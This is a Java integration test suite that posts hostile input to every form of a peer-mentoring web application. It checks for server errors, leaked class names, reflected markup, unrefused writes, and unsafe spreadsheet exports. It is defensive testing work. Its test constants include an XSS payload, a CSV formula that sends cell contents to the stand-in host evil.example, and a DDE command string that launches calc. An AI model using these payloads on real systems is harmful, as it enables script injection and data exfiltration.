package dk.peermentor.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.URL;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.ResourceBundle;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import dk.peermentor.testing.Deployments;
import dk.peermentor.testing.TodaysCohort;
import dk.peermentor.testing.WebUser;
import dk.peermentor.testing.WebUser.Page;

/**
 * Every form of every page, posted as a careless user or an attacker would: overlong values, control
 * characters, markup and spreadsheet formulas, bad numbers and dates, values no list offers, a
 * missing or someone else's view state, a missing nonce, a body of the wrong type. For each answer:
 * no 5xx, no class name or stack trace on the screen, markup never comes back as markup, and what
 * the application refused (with a message, or a 400 page) wrote nothing: every table is read back
 * and compared. A form that is not in {@link #forms()} fails {@link #everyFormIsTried()}.
 */
@ExtendWith(ArquillianExtension.class)
@RunAsClient
class HostileInputIT {

    static final String PASSWORD = "peer-demo-2026";

    @Deployment
    static WebArchive deployment() {
        return Deployments.shared();
    }

    @ArquillianResource
    URL app;

    /** Who posts a form. */
    enum Visitor {
        ANONYMOUS(null), COORDINATOR("coordinator@demo.example"), TRAINER("trainer@demo.example"),
        TRAINEE("trainee@demo.example"), GRADUATE("nadia.holm@demo.example");

        final String email;

        Visitor(String email) {
            this.email = email;
        }
    }

    /**
     * One form: where it is, who may use it, the button pressed, and whether ordinary text typed into
     * it is kept (then markup and formulas may be saved, as the text they are, and are tried only
     * where saving them destroys nothing the rest of the suite needs).
     */
    record Form(String source, String id, Visitor visitor, String page, String button, boolean takesText,
            List<Step> opening) {

        Form(String source, String id, Visitor visitor, String page, String button, boolean takesText, Step... opening) {
            this(source, id, visitor, page, button, takesText, List.of(opening));
        }

        String key() {
            return source + "#" + id;
        }
    }

    /** A click that brings a form on screen (a dialog, a search's results): a form, its button and values. */
    record Step(String form, String button, Map<String, String> fields) {
        Step(String form, String button) {
            this(form, button, Map.of());
        }
    }

    /** The hostile things tried; {@code refused}: the application must write nothing. */
    enum Attempt {
        OVERLONG(true), CONTROL_CHARACTERS(true), MARKUP(false), FORMULA(false), BAD_NUMBER(true), BAD_DATE(true),
        UNLISTED_CHOICE(true), NO_VIEW_STATE(true), FOREIGN_VIEW_STATE(true), NO_NONCE(true), WRONG_CONTENT_TYPE(true);

        final boolean refused;

        Attempt(boolean refused) {
            this.refused = refused;
        }
    }

    static final String MARKUP = "<script>alert('pm')</script><img src=x onerror=alert(1)>\"'";
    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Fjordby\")";
    static final String CONTROL = "Maja\u0000Engholm\u001b[2J\u0007";
    static final String OVERLONG = "Å".repeat(20_000);
    static final List<String> BAD_NUMBERS = List.of("abc", "-1", "99999999999999999999", "1e309", "0x1F");
    static final List<String> BAD_DATES = List.of("2027-02-30", "31-12-2027", "99999-01-01", "2027-13", "25:61");

    /** What a user must never see: a class name (a.b.Class), an exception's name, a stack frame. */
    static final Pattern LEAK = Pattern.compile(
            "(?:\\b[a-z][a-z0-9_]*\\.){2,}[A-Z]\\w*|\\w+(?:Exception|Error)\\b|\\bat [a-z]+\\.[a-z]+.*\\(\\w+\\.java");

    private Map<String, String> ids;

    private Map<Visitor, WebUser> visitors;

    private int tried;

    /** The forms, in the order they are tried: destructive ones last. */
    List<Form> forms() {
        String cohort = ids.get("cohort");
        String day = ids.get("day");
        List<Form> forms = new ArrayList<>();
        Visitor c = Visitor.COORDINATOR;
        // Every page's own: the language switch and the log-out.
        forms.add(new Form("WEB-INF/templates/layout.xhtml", "language", Visitor.TRAINEE, "trainee/", "switch", false));
        forms.add(new Form("WEB-INF/templates/layout.xhtml", "session", Visitor.TRAINEE, "trainee/", "logout", false));
        forms.add(new Form("login.xhtml", "login", Visitor.ANONYMOUS, "login", "submit", false));
        forms.add(new Form("forgot-password.xhtml", "forgot", Visitor.ANONYMOUS, "forgot-password", "send", false));
        forms.add(new Form("profile.xhtml", "language-form", Visitor.TRAINER, "profile", "save", false));
        forms.add(new Form("profile.xhtml", "password-form", Visitor.TRAINER, "profile", "change", false));
        forms.add(new Form("profile.xhtml", "sessions-form", Visitor.TRAINER, "profile", "end", false));
        forms.add(new Form("coordinator/audit.xhtml", "audit", c, "coordinator/audit", "search", true));
        forms.add(new Form("coordinator/people.xhtml", "search", c, "coordinator/people", "find", true));
        forms.add(new Form("coordinator/matching.xhtml", "filter", c, "coordinator/matching", "apply", true));
        forms.add(new Form("coordinator/api-clients.xhtml", "create", c, "coordinator/api-clients", "submit", true));
        forms.add(new Form("coordinator/cohorts.xhtml", "create", c, "coordinator/cohorts", "save", true));
        forms.add(new Form("coordinator/cohorts.xhtml", "age", c, "coordinator/cohorts", "save", false));
        forms.add(new Form("coordinator/cohorts.xhtml", "release", c, "coordinator/cohorts", "save", false));
        forms.add(new Form("coordinator/cohorts.xhtml", "certification", c, "coordinator/cohorts", "save", false));
        forms.add(new Form("coordinator/users.xhtml", "create", c, "coordinator/users", "save", true));
        forms.add(new Form("coordinator/handouts.xhtml", "activity", c, "coordinator/handouts", "save", true));
        forms.add(new Form("coordinator/cohort.xhtml", "details", c, "coordinator/cohort?id=" + cohort, "save", true));
        forms.add(new Form("coordinator/cohort.xhtml", "enrol", c, "coordinator/cohort?id=" + cohort, "save", true));
        forms.add(new Form("coordinator/cohort.xhtml", "reschedule", c, "coordinator/cohort?id=" + cohort, "save", false));
        forms.add(new Form("coordinator/cohort.xhtml", "assign", c, "coordinator/cohort?id=" + cohort, "save", false));
        forms.add(new Form("coordinator/cohort.xhtml", "days", c, "coordinator/cohort?id=" + cohort, "move", false));
        forms.add(new Form("coordinator/cohort.xhtml", "move", c, "coordinator/cohort?id=" + cohort, "save", true,
                new Step("days", "move")));
        forms.add(new Form("coordinator/cohort.xhtml", "move-trainee", c, "coordinator/cohort?id=" + cohort, "save", false));
        forms.add(new Form("coordinator/cohort.xhtml", "import", c, "coordinator/cohort?id=" + cohort, "preview", false));
        forms.add(new Form("coordinator/cohort.xhtml", "import-confirm", c, "coordinator/cohort?id=" + cohort, "save", false));
        forms.add(new Form("coordinator/cohort.xhtml", "trainers", c, "coordinator/cohort?id=" + cohort, null, false));
        forms.add(new Form("coordinator/cohort.xhtml", "waiting", c, "coordinator/cohort?id=" + cohort, null, false));
        forms.add(new Form("coordinator/certificates.xhtml", "issue", c, "coordinator/certificates?cohort=" + cohort,
                "issueSelected", false));
        forms.add(new Form("coordinator/certificates.xhtml", "export", c, "coordinator/certificates?cohort=" + cohort,
                "zip", false));
        forms.add(new Form("WEB-INF/includes/calendar-subscription.xhtml", "feed", Visitor.TRAINEE, "trainee/", "renew", false));
        forms.add(new Form("trainer/roll-call.xhtml", "roll", Visitor.TRAINER, "trainer/roll-call?day=" + day, "mark", false));
        forms.add(new Form("WEB-INF/includes/check-in.xhtml", "checkIn", Visitor.TRAINER, "trainer/roll-call?day=" + day,
                "open", false));
        forms.add(new Form("WEB-INF/includes/guests.xhtml", "guests", Visitor.TRAINER, "trainer/roll-call?day=" + day,
                "add", false));
        forms.add(new Form("trainer/cohort.xhtml", "conversation", Visitor.TRAINER, "trainer/cohort?id=" + cohort, "save",
                true));
        forms.add(new Form("trainer/cohort.xhtml", "makeUps", Visitor.TRAINER, "trainer/cohort?id=" + cohort, "remove", false));
        forms.add(new Form("trainee/unit.xhtml", "notes", Visitor.TRAINEE, "trainee/unit?unit=recovery", "save", true));
        forms.add(new Form("trainee/unit.xhtml", "read", Visitor.TRAINEE, "trainee/unit?unit=recovery", "toggle", false));
        forms.add(new Form("trainee/matching.xhtml", "profile", Visitor.GRADUATE, "trainee/matching", "save", true));
        forms.add(new Form("trainee/matching.xhtml", "consent", Visitor.GRADUATE, "trainee/matching", "withdraw", false));
        forms.add(new Form("coordinator/matching.xhtml", "pool", c, "coordinator/matching", "pause", false));
        forms.add(new Form("coordinator/matching.xhtml", "pausing", c, "coordinator/matching", "confirm", false,
                new Step("pool", "pause")));
        forms.add(new Form("coordinator/matching.xhtml", "paused", c, "coordinator/matching", "lift", false));
        forms.add(new Form("coordinator/handouts.xhtml", "list", c, "coordinator/handouts", "down", false));
        forms.add(new Form("coordinator/handouts.xhtml", "remove", c, "coordinator/handouts", "confirm", false,
                new Step("list", "remove")));
        forms.add(new Form("coordinator/users.xhtml", "users", c, "coordinator/users", "deactivate", false));
        forms.add(new Form("coordinator/users.xhtml", "roles", c, "coordinator/users", "save", false,
                new Step("users", "edit")));
        forms.add(new Form("coordinator/api-clients.xhtml", "clients", c, "coordinator/api-clients", "revoke", false));
        forms.add(new Form("coordinator/cohort.xhtml", "participants", c, "coordinator/cohort?id=" + cohort, "withdraw", false));
        Step search = new Step("search", "find", Map.of("search:query", "demo.example"));
        forms.add(new Form("coordinator/people.xhtml", "found", c, "coordinator/people", "erase", false, search));
        forms.add(new Form("coordinator/people.xhtml", "erase", c, "coordinator/people", "confirm", false, search,
                new Step("found", "erase")));
        forms.add(new Form("coordinator/cohort.xhtml", "cancel", c, "coordinator/cohort?id=" + cohort, "confirm", false));
        // Reached only with a one-time link or before the first account exists: their pages refuse a
        // made-up token or a finished set-up, and the form is not shown (tried below with hostile links).
        forms.add(new Form("invitation.xhtml", "password-form", Visitor.ANONYMOUS, "invitation?token=" + java.net.URLEncoder.encode(MARKUP, java.nio.charset.StandardCharsets.UTF_8), null, false));
        forms.add(new Form("reset-password.xhtml", "password-form", Visitor.ANONYMOUS, "reset-password?token=%00", null, false));
        forms.add(new Form("setup.xhtml", "setup", Visitor.ANONYMOUS, "setup", null, false));
        return forms;
    }

    /**
     * Formulas typed into a matching profile, a cohort's name and a trainee's name come out of every
     * CSV as text (a leading apostrophe), never as a cell a spreadsheet runs; the workbook of a cohort
     * named with a slash opens.
     */
    @Test
    void everyCsvShowsFormulasAsText() throws IOException {
        WebUser coordinator = WebUser.loggedIn(app, Visitor.COORDINATOR.email, PASSWORD);
        WebUser trainer = WebUser.loggedIn(app, Visitor.TRAINER.email, PASSWORD);
        WebUser graduate = WebUser.loggedIn(app, Visitor.GRADUATE.email, PASSWORD);
        // A cohort of its own: the test renames it and enrols someone.
        TodaysCohort.create(app, "Hold til formler");
        String cohort = trainer.get("trainer/").document().select("a[href*=cohort?id=]:contains(Hold til formler)").first()
                .attr("href").replaceAll(".*id=", "");
        String area = "=HYPERLINK(\"http://evil.example/?\"&A2&B2,\"Fjordby\")";
        Page matching = graduate.get("trainee/matching");
        if (matching.document().getElementById("consent:give") != null) {
            matching = graduate.follow(graduate.submit(matching, "consent", Map.of(), "consent:give"));
        }
        Page saved = graduate.follow(graduate.submit(graduate.get("trainee/matching"), "profile",
                Map.of("profile:area", area, "profile:interests", "=1+1, @SUM(1+1), +cmd|' /C calc'!A0"), "profile:save"));
        assertTrue(saved.document().select(".app-message--error").isEmpty(), saved.messages());
        Page cohortPage = coordinator.get("coordinator/cohort?id=" + cohort);
        Page renamed = coordinator.follow(coordinator.submit(cohortPage, "details", Map.of("details:name", "-2+3 Hold A/B"),
                "details:save"));
        assertTrue(renamed.document().select(".app-message--error").isEmpty(), renamed.messages());
        Page enrolled = coordinator.follow(coordinator.submit(coordinator.get("coordinator/cohort?id=" + cohort), "enrol",
                Map.of("enrol:given", "=1+1 Åse", "enrol:family", "@SUM(1) Ørsted", "enrol:email", "formula@test.example"),
                "enrol:save"));
        assertTrue(enrolled.document().select(".app-message--error").isEmpty(), enrolled.messages());

        Map<String, String> csvs = new LinkedHashMap<>();
        csvs.put("cohorts.csv", coordinator.get("exports/cohorts.csv").body());
        csvs.put("attendance.csv (coordinator)", coordinator.get("exports/attendance.csv?cohort=" + cohort).body());
        csvs.put("attendance.csv (trainer)", trainer.get("exports/attendance.csv?cohort=" + cohort).body());
        Page register = coordinator.get("coordinator/matching");
        Page pool = coordinator.submit(register, "filter", Map.of(), "filter:csv");
        assertEquals("text/csv", pool.headers().firstValue("Content-Type").orElse("").split(";")[0], pool.body());
        csvs.put("matching-pool.csv", pool.body());
        List<String> cells = new ArrayList<>();
        csvs.forEach((name, body) -> {
            try (var parser = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setDelimiter(';').get()
                    .parse(new java.io.StringReader(body.replace("\uFEFF", "")))) {
                for (var record : parser) {
                    for (String cell : record) {
                        cells.add(cell);
                        assertTrue(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0,
                                () -> name + " has a cell a spreadsheet runs: " + cell);
                    }
                }
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
        assertTrue(cells.contains("'" + area), "the area is there, as text: " + csvs.get("matching-pool.csv"));
        assertTrue(cells.stream().anyMatch(cell -> cell.startsWith("'=1+1")), "the interests are there, as text");
        assertTrue(cells.contains("'-2+3 Hold A/B"), "the cohort's name is there, as text: " + csvs.get("cohorts.csv"));
        assertTrue(cells.stream().anyMatch(cell -> cell.startsWith("'=1+1 Åse")), "the trainee is there, as text, "
                + "with the Danish letters she was typed with: " + csvs.get("attendance.csv (trainer)"));
        WebUser.Download workbook = coordinator.download("exports/attendance.xlsx?cohort=" + cohort);
        assertEquals(200, workbook.status());
        try (var opened = new org.apache.poi.xssf.usermodel.XSSFWorkbook(new java.io.ByteArrayInputStream(workbook.body()))) {
            assertEquals("-2+3 Hold A-B", opened.getSheetName(0));
        }
    }

    /** Every download says no-store and carries the pages' security headers, also one a Faces action answers. */
    @Test
    void everyDownloadCarriesThePagesHeaders() {
        WebUser coordinator = WebUser.loggedIn(app, Visitor.COORDINATOR.email, PASSWORD);
        WebUser trainee = WebUser.loggedIn(app, Visitor.TRAINEE.email, PASSWORD);
        WebUser graduate = WebUser.loggedIn(app, Visitor.GRADUATE.email, PASSWORD);
        String cohort = coordinator.get("coordinator/cohorts").document().select("a[href*=cohort?id=]").first().attr("href")
                .replaceAll(".*id=", "");
        String certificate = graduate.get("trainee/").document().select("a[href*=/certificates/]").stream()
                .map(a -> a.absUrl("href")).findFirst().orElseThrow(() -> new AssertionError("the graduate's certificate link"));
        Map<String, HttpHeadersOf> downloads = new LinkedHashMap<>();
        downloads.put("cohorts.csv", () -> coordinator.download("exports/cohorts.csv").headers());
        downloads.put("cohorts.xlsx", () -> coordinator.download("exports/cohorts.xlsx").headers());
        downloads.put("attendance.csv", () -> coordinator.download("exports/attendance.csv?cohort=" + cohort).headers());
        downloads.put("calendar", () -> coordinator.download("calendar/cohort?id=" + cohort).headers());
        downloads.put("unit.pdf", () -> trainee.download("trainee/unit.pdf?unit=recovery").headers());
        downloads.put("my-data", () -> trainee.download("profile/my-data").headers());
        downloads.put("certificate", () -> graduate.download(certificate).headers());
        downloads.put("matching-pool.csv", () -> coordinator.submit(coordinator.get("coordinator/matching"), "filter",
                Map.of(), "filter:csv").headers());
        downloads.put("verify", () -> new WebUser(app).download("verify/not-a-code").headers());
        downloads.forEach((name, headers) -> {
            java.net.http.HttpHeaders got = headers.get();
            assertEquals("no-store", got.firstValue("Cache-Control").orElse(""), name);
            assertEquals("nosniff", got.firstValue("X-Content-Type-Options").orElse(""), name);
            assertEquals("no-referrer", got.firstValue("Referrer-Policy").orElse(""), name);
            assertTrue(got.allValues("Content-Security-Policy").stream().anyMatch(p -> p.contains("frame-ancestors 'none'")),
                    name);
        });
    }

    /**
     * Too much at once: an upload or a form post larger than any page takes is refused unread with 413
     * and a page that says so; an applicant list over its own limits, or one a parser cannot read, is
     * refused on the page with the line. None of it writes anything.
     */
    @Test
    void oversizedUploadsPostsAndFilesAreRefusedWithAMessageAndWriteNothing() {
        WebUser coordinator = WebUser.loggedIn(app, Visitor.COORDINATOR.email, PASSWORD);
        Page cohort = coordinator.get("coordinator/cohorts").document().select("a[href*=cohort?id=]").eachAttr("abs:href")
                .stream().map(coordinator::get).filter(page -> page.document().getElementById("import") != null)
                .findFirst().orElseThrow(() -> new AssertionError("a cohort that takes applicants"));
        ResourceBundle danish = ResourceBundle.getBundle("i18n.messages", Locale.forLanguageTag("da"));
        String before = fingerprint();

        for (int megabytes : List.of(6, 20)) {
            Page refused = coordinator.upload(cohort, "import", "import:file", "ansoegere.csv",
                    applicants(megabytes * 1024 * 1024 / 32), "import:preview");
            assertEquals(413, refused.status(), megabytes + " MB: " + refused.text());
            assertTrue(refused.text().contains(danish.getString("error.tooLarge.title")), refused.text());
            assertTrue(!LEAK.matcher(refused.text()).find(), refused.text());
        }
        Page post = coordinator.post(cohort.uri(), Map.of("jakarta.faces.ViewState", "x", "pad", "a".repeat(3_000_000)));
        assertEquals(413, post.status(), post.text());
        assertTrue(post.text().contains(danish.getString("error.tooLarge.title")), post.text());

        // Within what the server takes, but more than an applicant list may be: said on the page.
        Page tooLarge = coordinator.upload(cohort, "import", "import:file", "ansoegere.csv", applicants(50_000), "import:preview");
        assertEquals(200, tooLarge.status());
        assertEquals(1, tooLarge.document().select("#import-problems tbody tr").size(), tooLarge.text());
        assertTrue(tooLarge.document().select("form#import-confirm").isEmpty());
        Page tooMany = coordinator.upload(cohort, "import", "import:file", "ansoegere.csv", applicants(1001), "import:preview");
        assertEquals(List.of("1002"), tooMany.document().select("#import-problems tbody tr td:first-child").eachText(),
                "the first applicant over the limit: " + tooMany.text());
        Page broken = coordinator.upload(cohort, "import", "import:file", "ansoegere.csv",
                "fornavn;efternavn;e-mail\nSøren;Holm;s@demo.example\n\"Åse\" Marie;Holm;a@demo.example\n"
                        .getBytes(java.nio.charset.StandardCharsets.UTF_8), "import:preview");
        assertEquals(List.of("3"), broken.document().select("#import-problems tbody tr td:first-child").eachText(),
                broken.text());
        assertTrue(!LEAK.matcher(broken.text()).find(), "no parser's message on the page: " + broken.text());

        assertEquals(before, fingerprint(), "nothing was written");
    }

    /** The users list's search and paging, from the address bar: odd values are a message, a 400 or a 404. */
    @Test
    void theUserSearchTakesWildcardsLiterallyAndOddPagesSafely() {
        WebUser coordinator = WebUser.loggedIn(app, Visitor.COORDINATOR.email, PASSWORD);
        String before = fingerprint();
        assertEquals(0, coordinator.get("coordinator/users?q=%25").document().select("#users\\:accounts tbody tr").size(),
                "% is a character, not everyone");
        assertEquals(0, coordinator.get("coordinator/users?q=_").document().select("#users\\:accounts tbody tr").size());
        assertEquals(1, coordinator.get("coordinator/users?q=TRAINEE%40demo").document()
                .select("#users\\:accounts tbody tr").size(), "found by part of the e-mail, whatever the case");
        Page overlong = coordinator.get("coordinator/users?q=" + "x".repeat(300));
        assertEquals(200, overlong.status());
        assertTrue(!overlong.messages().isBlank(), "the page says the search was too long");
        assertEquals(400, coordinator.get("coordinator/users?q=a%00b").status());
        for (String page : List.of("-5", "0", "999999")) {
            Page shown = coordinator.get("coordinator/users?page=" + page);
            assertEquals(200, shown.status(), page);
            assertTrue(!shown.document().select("#users\\:accounts tbody tr").isEmpty(), "a page with accounts: " + page);
        }
        for (String page : List.of("abc", "99999999999", "1e3")) {
            assertEquals(404, coordinator.get("coordinator/users?page=" + page).status(), page);
        }
        assertEquals(before, fingerprint());
    }

    private static byte[] applicants(int rows) {
        StringBuilder file = new StringBuilder("fornavn;efternavn;e-mail\n");
        for (int i = 0; i < rows; i++) {
            file.append("Kursist;Nummer ").append(i).append(";stor").append(i).append("@demo.example\n");
        }
        return file.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8);
    }

    /** An ajax request that fails (here: a view state the server never issued) says so in words, not in a class name. */
    @Test
    void aFailedAjaxRequestShowsAMessageAndNoClassName() {
        WebUser trainer = WebUser.loggedIn(app, Visitor.TRAINER.email, PASSWORD);
        String cohort = trainer.get("trainer/").document().select("a[href*=cohort?id=]").first().attr("href")
                .replaceAll(".*id=", "");
        Page sheet = trainer.get("trainer/cohort?id=" + cohort);
        Page rollCall = trainer.click(sheet, sheet.document().select("a[href*=roll-call?day=]").first().attr("href"));
        Element button = rollCall.document().select("#roll button[name$=:mark]").first();
        Map<String, String> values = formValues(rollCall.document().getElementById("roll"), rollCall, null);
        values.put("jakarta.faces.ViewState", "-1:-1");
        values.put("jakarta.faces.partial.ajax", "true");
        values.put("jakarta.faces.source", button.attr("name"));
        values.put("jakarta.faces.partial.execute", button.attr("name"));
        values.put("jakarta.faces.partial.render", "messages");
        values.put(button.attr("name"), button.attr("name"));

        Page answer = trainer.postAjax(rollCall.uri().resolve(rollCall.document().getElementById("roll").attr("action")),
                values);
        assertTrue(answer.status() < 500, "status " + answer.status());
        assertTrue(answer.body().contains("<partial-response"), answer.body());
        assertTrue(!answer.body().contains("<error-name>"), answer.body());
        assertTrue(!LEAK.matcher(answer.body().replaceAll("<[^>]+>", " ")).find(), answer.body());
        String expected = ResourceBundle.getBundle("i18n.messages", Locale.forLanguageTag("da")).getString("error.expired.text");
        assertTrue(answer.body().contains(expected), "the page's message area says what happened: " + answer.body());
    }

    private interface HttpHeadersOf {
        java.net.http.HttpHeaders get();
    }

    @Test
    void everyFormIsTried() throws IOException {
        ids = Map.of("cohort", "0", "day", "0");
        Set<String> listed = forms().stream().map(Form::key).collect(Collectors.toCollection(TreeSet::new));
        Set<String> inApplication = new TreeSet<>();
        Path webapp = Path.of("src/main/webapp");
        Pattern form = Pattern.compile("<h:form[^>]*\\bid=\"([^\"]+)\"");
        try (Stream<Path> files = Files.walk(webapp)) {
            for (Path file : (Iterable<Path>) files.filter(f -> f.toString().endsWith(".xhtml"))::iterator) {
                Matcher found = form.matcher(Files.readString(file));
                while (found.find()) {
                    inApplication.add(webapp.relativize(file).toString().replace('\\', '/') + "#" + found.group(1));
                }
            }
        }
        Set<String> missing = new TreeSet<>(inApplication);
        missing.removeAll(listed);
        assertTrue(missing.isEmpty(), "forms the hostile-input suite does not try: " + missing);
        listed.removeAll(inApplication);
        assertTrue(listed.isEmpty(), "forms listed that no page has: " + listed);
    }

    @Test
    void noFormAnswers500LeaksAClassNameOrWritesWhatItRefuses() {
        visitors = new LinkedHashMap<>();
        for (Visitor visitor : Visitor.values()) {
            visitors.put(visitor, visitor.email == null ? new WebUser(app) : WebUser.loggedIn(app, visitor.email, PASSWORD));
        }
        WebUser trainer = visitors.get(Visitor.TRAINER);
        String cohort = trainer.get("trainer/").document().select("a[href*=cohort?id=]").first().attr("href")
                .replaceAll(".*id=", "");
        String day = trainer.get("trainer/cohort?id=" + cohort).document().select("a[href*=roll-call?day=]").first()
                .attr("href").replaceAll(".*day=", "");
        ids = Map.of("cohort", cohort, "day", day);
        // Someone else's view state: a page of the other role, as a forged post would carry it.
        String foreignViewState = visitors.get(Visitor.GRADUATE).get("profile").document()
                .select("input[name=jakarta.faces.ViewState]").first().val();

        List<String> wrong = new ArrayList<>();
        List<String> notShown = new ArrayList<>();
        int formsTried = 0;
        for (Form form : forms()) {
            WebUser user = visitors.get(form.visitor());
            Page page = open(user, form);
            Element element = page.document().getElementById(form.id());
            if (element == null) {
                notShown.add(form.key() + " (" + page.status() + ")");
                wrong.addAll(checked(form, null, page, false));
                continue;
            }
            formsTried++;
            for (Attempt attempt : Attempt.values()) {
                if (!form.takesText() && (attempt == Attempt.MARKUP || attempt == Attempt.FORMULA)) {
                    continue;
                }
                for (UnaryOperator<Map<String, String>> change : changes(attempt, element, foreignViewState)) {
                    page = open(user, form);
                    element = page.document().getElementById(form.id());
                    if (element == null) {
                        wrong.add(form.key() + " " + attempt + ": the form is gone from " + form.page());
                        break;
                    }
                    Map<String, String> values = change.apply(formValues(element, page, form.button()));
                    String before = fingerprint();
                    Page answer = attempt == Attempt.WRONG_CONTENT_TYPE
                            ? user.postRaw(page.uri().resolve(element.attr("action")), "application/json",
                                    "{\"" + form.id() + "\":\"" + MARKUP + "\"}")
                            : user.post(page.uri().resolve(element.attr("action")), values);
                    tried++;
                    boolean unchanged = before.equals(fingerprint());
                    wrong.addAll(checked(form, attempt, answer, attempt.refused && !unchanged));
                    if (attempt.refused && unchanged && answer.status() == 200 && answer.messages().isBlank()
                            && changedAnyField(attempt) && !answer.document().select("[aria-invalid=true]").isEmpty()) {
                        wrong.add(form.key() + " " + attempt + ": fields marked invalid without a message");
                    }
                }
            }
        }
        System.out.printf("HostileInputIT: %d forms listed, %d posted with %d hostile requests; not shown: %s%n",
                forms().size(), formsTried, tried, notShown);
        assertTrue(wrong.isEmpty(), String.join("\n", wrong));
        assertTrue(formsTried >= forms().size() - 12, "most forms must be reachable: not shown " + notShown);
    }

    /** The form's page as its user sees it, with the clicks that bring the form on screen made. */
    private static Page open(WebUser user, Form form) {
        Page page = user.get(form.page());
        for (Step step : form.opening()) {
            if (page.document().getElementById(step.form()) == null) {
                return page;
            }
            Element opener = page.document().getElementById(step.form());
            Map<String, String> values = formValues(opener, page, step.button());
            values.putAll(step.fields());
            page = user.follow(user.post(page.uri().resolve(opener.attr("action")), values));
        }
        return page;
    }

    private static boolean changedAnyField(Attempt attempt) {
        return attempt != Attempt.NO_VIEW_STATE && attempt != Attempt.FOREIGN_VIEW_STATE && attempt != Attempt.NO_NONCE;
    }

    /** The ways an attempt changes a form's values: one request each. */
    private static List<UnaryOperator<Map<String, String>>> changes(Attempt attempt, Element form, String foreignViewState) {
        List<String> texts = fields(form, "input[type=text], input[type=email], input[type=search], input[type=tel], "
                + "input[type=password], input:not([type]), textarea");
        List<String> numbers = fields(form, "input[type=number]");
        List<String> dates = fields(form, "input[type=date], input[type=time], input[type=month]");
        // A single checkbox (no value of its own) is unticked by any other value, as in a browser.
        List<String> choices = fields(form, "select, input[type=radio], input[type=checkbox][value]");
        List<UnaryOperator<Map<String, String>>> changes = new ArrayList<>();
        switch (attempt) {
            case OVERLONG -> addIf(changes, !texts.isEmpty(), v -> with(v, texts, OVERLONG));
            case CONTROL_CHARACTERS -> addIf(changes, !texts.isEmpty(), v -> with(v, texts, CONTROL));
            case MARKUP -> addIf(changes, !texts.isEmpty(), v -> with(v, texts, MARKUP));
            case FORMULA -> addIf(changes, !texts.isEmpty(), v -> with(v, texts, FORMULA));
            case BAD_NUMBER -> BAD_NUMBERS.forEach(bad -> addIf(changes, !numbers.isEmpty(), v -> with(v, numbers, bad)));
            case BAD_DATE -> BAD_DATES.forEach(bad -> addIf(changes, !dates.isEmpty(), v -> with(v, dates, bad)));
            case UNLISTED_CHOICE -> List.of("NOT_A_VALUE", "99999999999999999999", "-1")
                    .forEach(bad -> addIf(changes, !choices.isEmpty(), v -> with(v, choices, bad)));
            case NO_VIEW_STATE -> changes.add(v -> {
                v.remove("jakarta.faces.ViewState");
                return v;
            });
            case FOREIGN_VIEW_STATE -> changes.add(v -> {
                v.put("jakarta.faces.ViewState", foreignViewState);
                return v;
            });
            case NO_NONCE -> changes.add(v -> {
                v.remove("primefaces.nonce");
                return v;
            });
            case WRONG_CONTENT_TYPE -> changes.add(v -> v);
        }
        return changes;
    }

    private static void addIf(List<UnaryOperator<Map<String, String>>> changes, boolean applies,
            UnaryOperator<Map<String, String>> change) {
        if (applies) {
            changes.add(change);
        }
    }

    private static Map<String, String> with(Map<String, String> values, List<String> names, String value) {
        names.forEach(name -> values.put(name, value));
        return values;
    }

    private static List<String> fields(Element form, String query) {
        return form.select(query).stream().map(e -> e.attr("name")).filter(name -> !name.isEmpty()).distinct().toList();
    }

    /** The form's values as a browser posts them, with the first button whose id ends in {@code button}. */
    private static Map<String, String> formValues(Element form, Page page, String button) {
        Map<String, String> values = new LinkedHashMap<>();
        for (Element input : form.select("input[name], select[name], textarea[name]")) {
            String type = input.attr("type");
            if (type.equals("submit") || type.equals("button") || type.equals("file")
                    || (type.equals("checkbox") || type.equals("radio")) && !input.hasAttr("checked")) {
                continue;
            }
            if (input.tagName().equals("select")) {
                Element selected = input.selectFirst("option[selected]");
                Element first = input.selectFirst("option");
                values.put(input.attr("name"), selected != null ? selected.val() : first != null ? first.val() : "");
            } else {
                values.put(input.attr("name"), input.tagName().equals("textarea") ? input.text() : input.val());
            }
        }
        if (button != null) {
            form.select("[name$=:" + button + "]").stream().findFirst().ifPresent(b -> values.put(b.attr("name"), b.val()));
        }
        page.nonce().ifPresent(nonce -> values.put("primefaces.nonce", nonce));
        return values;
    }

    /** What is wrong with one answer, if anything. */
    private static List<String> checked(Form form, Attempt attempt, Page answer, boolean wroteWhatItRefused) {
        List<String> wrong = new ArrayList<>();
        String what = form.key() + (attempt == null ? " (page)" : " " + attempt) + ": ";
        if (answer.status() >= 500) {
            wrong.add(what + "answered " + answer.status());
        }
        String visible = answer.document().title() + " " + answer.text();
        Matcher leak = LEAK.matcher(visible);
        if (leak.find()) {
            wrong.add(what + "shows '" + leak.group() + "'");
        }
        if (answer.body().contains("<script>alert('pm')") || answer.body().contains("<img src=x onerror")) {
            wrong.add(what + "sends the markup back as markup");
        }
        if (wroteWhatItRefused) {
            wrong.add(what + "refused (" + answer.status() + " " + answer.messages() + ") but the database changed");
        }
        return wrong;
    }

    private String fingerprint() {
        // Logins and the audit of refusals are written on purpose: the rest must stay as it was.
        List<String> tables = DatabaseFingerprint.read(app);
        assertTrue(tables.size() > 20, "every table is compared: " + tables);
        return String.join("\n", tables);
    }
}
